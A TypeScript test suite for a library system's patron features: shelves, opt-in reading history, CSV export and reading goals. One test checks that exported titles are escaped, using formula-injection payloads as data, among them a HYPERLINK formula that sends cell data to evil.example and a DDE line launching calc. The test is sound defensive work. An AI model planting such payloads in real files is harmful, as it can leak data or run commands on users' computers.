import { adminToken, createTenant, createTestApp, librarianToken, TestApp } from './support/app';
import { createPatron, patronLogin, temporaryPassword } from './support/patrons';

/** Bookshelves, reading history (opt-in, from then on), CSV export, delete; reading marathon. */
describe('the patron’s own lists', () => {
  let t: TestApp;
  let admin: string;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await adminToken(t);
  });
  afterAll(() => t.close());

  async function cityWithPatron(preset: string, card: string) {
    const slug = await createTenant(t, admin, preset);
    const lib = await librarianToken(t, admin, slug);
    const p = await createPatron(t, slug, lib, { cardNumber: card });
    const pw = await temporaryPassword(t, slug, lib, p.id);
    let token = (await patronLogin(t, slug, card, pw).expect(200)).body.token;
    if ((await t.http().get(`/api/t/${slug}/me`).set('Authorization', `Bearer ${token}`)).body.mustChangePassword) {
      const next = preset === 'city003' ? '135790' : 'Read1234';
      await t.http().put(`/api/t/${slug}/me/password`).set('Authorization', `Bearer ${token}`).send({ currentPassword: pw, newPassword: next }).expect(200);
      token = (await patronLogin(t, slug, card, next).expect(200)).body.token;
    }
    const info = await t.http().get(`/api/t/${slug}/info`).expect(200);
    const branch = info.body.branches[0].code;
    const record = async (title: string, barcode: string) => {
      const res = await t
        .http()
        .post(`/api/t/${slug}/admin/records`)
        .set('Authorization', `Bearer ${lib}`)
        .send({ title, authors: [{ name: '夏目 漱石' }], items: [{ barcode, branchCode: branch }] })
        .expect(201);
      return res.body.id as string;
    };
    const checkout = (barcode: string) =>
      t.http().post(`/api/t/${slug}/desk/checkouts`).set('Authorization', `Bearer ${lib}`).send({ cardNumber: card, itemBarcode: barcode }).expect(201);
    return { slug, lib, auth: { Authorization: `Bearer ${token}` }, record, checkout };
  }

  it('keeps favourites and named shelves with read / want-to-read marks (Kushiro booklist)', async () => {
    const c = await cityWithPatron('kushiro', '30000001');
    const id = await c.record('こころ', 'K-0001');
    const shelves = await t.http().get(`/api/t/${c.slug}/me/shelves`).set(c.auth).expect(200);
    expect(shelves.body).toEqual([expect.objectContaining({ kind: 'favourites', count: 0 })]);
    const fav = shelves.body[0].id;
    await t.http().put(`/api/t/${c.slug}/me/shelves/${fav}/entries/${id}`).set(c.auth).send({ mark: 'want' }).expect(200);
    const mine = await t.http().post(`/api/t/${c.slug}/me/shelves`).set(c.auth).send({ name: '夏休み' }).expect(201);
    await t.http().post(`/api/t/${c.slug}/me/shelves`).set(c.auth).send({ name: '夏休み' }).expect(409);
    await t.http().put(`/api/t/${c.slug}/me/shelves/${mine.body.id}/entries/${id}`).set(c.auth).send({ mark: 'read', category: '文学' }).expect(200);
    const containing = await t.http().get(`/api/t/${c.slug}/me/shelves/containing?recordId=${id}`).set(c.auth).expect(200);
    expect(containing.body.map((x: { kind: string; mark: string }) => [x.kind, x.mark])).toEqual([
      ['favourites', 'want'],
      ['custom', 'read'],
    ]);
    const entries = await t.http().get(`/api/t/${c.slug}/me/shelves/${mine.body.id}/entries`).set(c.auth).expect(200);
    expect(entries.body).toEqual([expect.objectContaining({ recordId: id, title: 'こころ', mark: 'read', category: '文学' })]);
    await t.http().delete(`/api/t/${c.slug}/me/shelves/${fav}`).set(c.auth).expect(409);
    await t.http().delete(`/api/t/${c.slug}/me/shelves/${mine.body.id}`).set(c.auth).expect(204);
    expect((await t.http().get(`/api/t/${c.slug}/me/shelves`).set(c.auth).expect(200)).body).toHaveLength(1);
  });

  it('records history only from opting in (nickname + terms in Kushiro), exports CSV and deletes all', async () => {
    const c = await cityWithPatron('kushiro', '30000002');
    await c.record('坊っちゃん', 'K-1001');
    await c.record('三四郎', 'K-1002');
    await c.checkout('K-1001'); // before opting in: not recorded
    const noNick = await t.http().put(`/api/t/${c.slug}/me/history/settings`).set(c.auth).send({ enabled: true, termsAccepted: true }).expect(422);
    expect(noNick.body.code).toBe('NICKNAME_REQUIRED');
    const noTerms = await t.http().put(`/api/t/${c.slug}/me/history/settings`).set(c.auth).send({ enabled: true, nickname: 'ぼっちゃん' }).expect(422);
    expect(noTerms.body.code).toBe('TERMS_NOT_ACCEPTED');
    await t.http().put(`/api/t/${c.slug}/me/history/settings`).set(c.auth).send({ enabled: true, nickname: 'ぼっちゃん', termsAccepted: true }).expect(200);
    await c.checkout('K-1002');
    const history = await t.http().get(`/api/t/${c.slug}/me/history`).set(c.auth).expect(200);
    expect(history.body.items.map((h: { title: string }) => h.title)).toEqual(['三四郎']);
    const csv = await t.http().get(`/api/t/${c.slug}/me/history.csv`).set(c.auth).expect(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.text).toContain('貸出日,タイトル');
    expect(csv.text).toContain('三四郎');
    expect(csv.text).not.toContain('坊っちゃん');
    await t.http().delete(`/api/t/${c.slug}/me/history`).set(c.auth).expect(200);
    expect((await t.http().get(`/api/t/${c.slug}/me/history`).set(c.auth).expect(200)).body.total).toBe(0);
  });

  it('exports titles that start like spreadsheet formulas as text (OWASP CSV injection)', async () => {
    const c = await cityWithPatron('kushiro', '30000003');
    await t.http().put(`/api/t/${c.slug}/me/history/settings`).set(c.auth).send({ enabled: true, nickname: 'よむひと', termsAccepted: true }).expect(200);
    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
    for (const [i, title] of titles.entries()) {
      await c.record(title, `F-${i}`);
      await c.checkout(`F-${i}`);
    }
    const csv = await t.http().get(`/api/t/${c.slug}/me/history.csv`).set(c.auth).expect(200);
    const cells = csv.text.split('\r\n').slice(1, -1).map((line) => line.split(',')[1]);
    // every such title is quoted and starts with an apostrophe, the whole title kept
    expect(cells.sort()).toEqual([`"'+1+cmd|' /C calc'!A0"`, `"'-2+3"`, `"'=HYPERLINK(""http://evil.example/?""&A1`, `"'@SUM(A1:A9)"`].sort());
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳しくはこちら"")"`);
    expect(csv.text).not.toMatch(/(^|,)[=+\-@]/m);
  });

  it('shows the reading marathon goal and progress where the city has it (Koga), and refuses it elsewhere', async () => {
    const koga = await cityWithPatron('koga', '100000123');
    await koga.record('吾輩は猫である', 'G-0001');
    await koga.checkout('G-0001');
    const goal = await t.http().put(`/api/t/${koga.slug}/me/reading-goal`).set(koga.auth).send({ target: 4 }).expect(200);
    expect(goal.body).toMatchObject({ target: 4, progress: 1, percent: 25 });
    expect(goal.body.monthly).toHaveLength(12);
    const katori = await cityWithPatron('katori', '0000123');
    const off = await t.http().get(`/api/t/${katori.slug}/me/reading-goal`).set(katori.auth).expect(403);
    expect(off.body.code).toBe('FEATURE_OFF');
  });
});
